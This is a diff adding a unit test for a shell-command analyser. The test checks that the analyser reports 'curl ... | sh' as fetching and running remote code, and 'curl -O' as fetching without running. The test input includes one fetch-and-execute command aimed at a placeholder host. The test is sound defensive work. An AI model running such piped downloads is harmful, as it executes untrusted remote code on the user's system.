@@ -31,6 +31,17 @@ describe('a reason', () => {
     expect(analyse(command).reason).toBe(reason)
   })
 
+  it('does not say of what is run that it is not', () => {
+    const reasons = (command: string) =>
+      analyse(command)
+        .trace()
+        .findings.map(({ reason }) => reason)
+    expect(reasons('curl https://x.example/i | sh')).toContain('curl fetches "https://x.example/i"')
+    expect(reasons('curl -O https://x.example/i')).toContain(
+      'curl fetches "https://x.example/i" and does not run it',
+    )
+  })
+
   it.each([
     [':7777', 'port 7777'],
     ['7777', 'port 7777'],
